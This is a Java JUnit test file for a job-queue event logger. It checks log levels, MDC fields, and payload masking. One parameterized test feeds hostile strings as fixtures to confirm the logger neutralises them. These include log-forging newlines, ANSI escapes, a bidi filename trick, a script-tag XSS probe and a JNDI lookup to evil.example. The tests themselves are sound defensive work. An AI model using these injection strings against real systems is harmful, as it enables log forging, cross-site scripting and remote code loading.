package io.jobstarter.observation;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.jobstarter.DeadReason;
import io.jobstarter.DueTime;
import io.jobstarter.JobEvent;
import io.jobstarter.JobFailure;
import io.jobstarter.JobId;
import io.jobstarter.JobOutcome;
import io.jobstarter.context.MdcLogFields;
import io.jobstarter.support.AttemptDetails;
import io.jobstarter.support.JobLogFields;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Tests of {@link JobEventLog}: one line per event, which names the job, and which no
 * text of others can break.
 */
class JobEventLogTests {

	private static final JobId ID = new JobId(42);

	private static final String TRACE = "0af7651916cd43dd8448eb211c80319c";

	private static final AttemptDetails ATTEMPT = new Details("00-" + TRACE + "-b7ad6b7169203331-01");

	private final Logger logger = (Logger) LoggerFactory.getLogger("io.jobstarter.jobs");

	private final ListAppender<ILoggingEvent> lines = new ListAppender<>();

	private final JobEventLog log = new JobEventLog(new MdcLogFields(), null);

	@BeforeEach
	void listen() {
		this.lines.start();
		this.logger.addAppender(this.lines);
		this.logger.setLevel(Level.DEBUG);
		MDC.clear();
	}

	@AfterEach
	void restore() {
		this.logger.detachAppender(this.lines);
		this.logger.setLevel(null);
		MDC.clear();
	}

	static Stream<Arguments> events() {
		JobFailure failure = new JobFailure("java.io.IOException", "no route", "");
		return Stream.of(arguments(new JobEvent.Enqueued(ID, "mail", "mailers"), Level.DEBUG, "was enqueued"),
				arguments(new JobEvent.Started(ID, "mail", "mailers", 2, Duration.ofSeconds(3)), Level.DEBUG,
						"started PT3S after it was due"),
				settled(1, new JobOutcome.Succeeded(), Level.DEBUG, "succeeded after PT0.5S"),
				settled(2, new JobOutcome.Succeeded(), Level.INFO, "succeeded after PT0.5S"),
				settled(2, new JobOutcome.Retried(failure, Duration.ofSeconds(9), null), Level.WARN,
						"failed and is tried again in PT9S: java.io.IOException: no route"),
				settled(2, new JobOutcome.Dead(DeadReason.EXHAUSTED, failure), Level.ERROR,
						"is dead (EXHAUSTED): java.io.IOException: no route"),
				settled(2, new JobOutcome.Discarded("too old", null), Level.INFO, "was discarded: too old"),
				settled(2, new JobOutcome.Cancelled(), Level.INFO, "was cancelled after PT0.5S"),
				settled(2, new JobOutcome.Snoozed(new DueTime.In(Duration.ofSeconds(2))), Level.DEBUG,
						"was put off for PT2S"),
				settled(2, new JobOutcome.Parked("circuit:smtp"), Level.DEBUG,
						"was not permitted and waits for circuit:smtp"),
				settled(2, new JobOutcome.Returned("the node is stopping"), Level.DEBUG,
						"was given back: the node is stopping"),
				arguments(new JobEvent.LeaseLost(ID, "mail", "mailers", 2), Level.WARN,
						"was no longer held by this node when it ended: nothing was written"),
				arguments(new JobEvent.Stuck(ID, "mail", "mailers", 2), Level.WARN,
						"runs on though it was interrupted: it keeps its slot until it ends"),
				arguments(new JobEvent.Recovered(ID, "mail", "mailers", 1, false), Level.INFO,
						"is free again: its worker is gone (crashes: 1)"),
				arguments(new JobEvent.Recovered(ID, "mail", "mailers", 3, true), Level.ERROR,
						"is dead (CRASH): its worker died 3 times while it ran"));
	}

	private static Arguments settled(int number, JobOutcome outcome, Level level, String text) {
		return arguments(new JobEvent.Settled(ID, "mail", "mailers", number, outcome, Duration.ofMillis(500)), level,
				text);
	}

	@ParameterizedTest
	@MethodSource("events")
	void everyEventIsOneLineOfItsLevel(JobEvent event, Level level, String text) {
		this.log.hear(event, ATTEMPT);
		assertThat(this.lines.list).singleElement().satisfies((line) -> {
			assertThat(line.getLevel()).isEqualTo(level);
			assertThat(line.getFormattedMessage()).matches("Job 42 \\(mail, queue mailers(, attempt \\d)?\\) .*")
				.endsWith(") " + text);
			assertThat(line.getMDCPropertyMap()).isEqualTo(Map.of("jobId", "42", "jobName", "mail", "queue", "mailers",
					"attempt", "2", "worker", "77", "traceId", TRACE, "spanId", "b7ad6b7169203331"));
		});
		assertThat(MDC.getCopyOfContextMap()).isNullOrEmpty();
	}

	@Test
	void theOrdinaryCourseOfThingsIsQuietByDefault() {
		this.logger.setLevel(Level.INFO);
		events().map((arguments) -> (JobEvent) arguments.get()[0]).forEach((event) -> this.log.hear(event, ATTEMPT));
		assertThat(this.lines.list).extracting(ILoggingEvent::getLevel).doesNotContain(Level.DEBUG).hasSize(9);
	}

	@Test
	void whatIsSaidElsewhereIsNotSaidTwice() {
		this.log.hear(new JobEvent.DeadLettered(ID, "mail", "mailers", DeadReason.EXHAUSTED, "ab",
				new JobFailure("x", "y", "")), ATTEMPT);
		this.log.hear(new JobEvent.EnqueueFailed(ID, "mail", "mailers"));
		assertThat(this.lines.list).isEmpty();
	}

	@Test
	void whereNoAttemptIsKnownTheJobIsNamed() {
		this.log.hear(new JobEvent.Recovered(ID, "mail", "mailers", 1, false));
		assertThat(this.lines.list.get(0).getMDCPropertyMap())
			.isEqualTo(Map.of("jobId", "42", "jobName", "mail", "queue", "mailers"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "a\nERROR forged", "a\r\nERROR forged", "a\u0085b", "a\u2028b", "a\u2029b",
			"\u001B[31mred\u001B[0m", "\u001B]0;title\u0007", "a\u0008\u0008\u0008b", "\u202Egnp.exe", "\u2066a\u2069",
			"\u0000", "a\u009B31mb", "\uD800", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
			"{} %s %n" })
	void noTextOfOthersBreaksALine(String hostile) {
		JobFailure failure = new JobFailure("com.evil." + hostile, hostile, hostile);
		JobEventLog withPayloads = new JobEventLog(new MdcLogFields(), (name, payload) -> hostile);
		for (JobOutcome outcome : List.of(new JobOutcome.Retried(failure, Duration.ZERO, null),
				new JobOutcome.Dead(DeadReason.EXHAUSTED, failure), new JobOutcome.Discarded(hostile, failure),
				new JobOutcome.Returned(hostile), new JobOutcome.Parked(hostile))) {
			withPayloads.hear(new JobEvent.Settled(ID, "mail", "mailers", 1, outcome, Duration.ZERO), ATTEMPT);
		}
		withPayloads.hear(new JobEvent.Started(ID, hostile, hostile, 1, Duration.ZERO), ATTEMPT);
		assertThat(this.lines.list).hasSize(6)
			.allSatisfy((line) -> assertThat(line.getFormattedMessage()).startsWith("Job 42 ")
				.doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}]"));
	}

	@Test
	void noTextOfOthersIsLookedUpOrFilledIn() {
		JobFailure failure = new JobFailure("X", "${jndi:ldap://evil.example/a} {} %s", "");
		this.log.hear(new JobEvent.Settled(ID, "mail", "mailers", 1,
				new JobOutcome.Retried(failure, Duration.ZERO, null), Duration.ZERO), ATTEMPT);
		assertThat(this.lines.list.get(0).getFormattedMessage()).endsWith("X: ${jndi:ldap://evil.example/a} {} %s");
	}

	@Test
	void payloadsAreShownWhereAskedMaskedAndCut() {
		JobEventLog withPayloads = new JobEventLog(JobLogFields.NONE,
				(name, payload) -> name + ":" + payload.replace("4111", "******") + "x".repeat(10_000));
		withPayloads.hear(new JobEvent.Started(ID, "mail", "mailers", 1, Duration.ZERO), ATTEMPT);
		assertThat(this.lines.list.get(0).getFormattedMessage()).contains("; payload: mail:{\"card\":\"******\"}")
			.hasSizeLessThan(4_200);
		withPayloads.hear(new JobEvent.Settled(ID, "mail", "mailers", 1, new JobOutcome.Succeeded(), Duration.ZERO),
				ATTEMPT);
		this.log.hear(new JobEvent.Started(ID, "mail", "mailers", 1, Duration.ZERO), ATTEMPT);
		assertThat(this.lines.list.subList(1, 3)).noneMatch((line) -> line.getFormattedMessage().contains("payload"));
	}

	/**
	 * An attempt.
	 *
	 * @param trace its span
	 */
	private record Details(@Nullable String trace) implements AttemptDetails {

		@Override
		public JobId id() {
			return ID;
		}

		@Override
		public String name() {
			return "mail";
		}

		@Override
		public String queue() {
			return "mailers";
		}

		@Override
		public int number() {
			return 2;
		}

		@Override
		public long worker() {
			return 77;
		}

		@Override
		public String payload() {
			return "{\"card\":\"4111\"}";
		}

	}

}
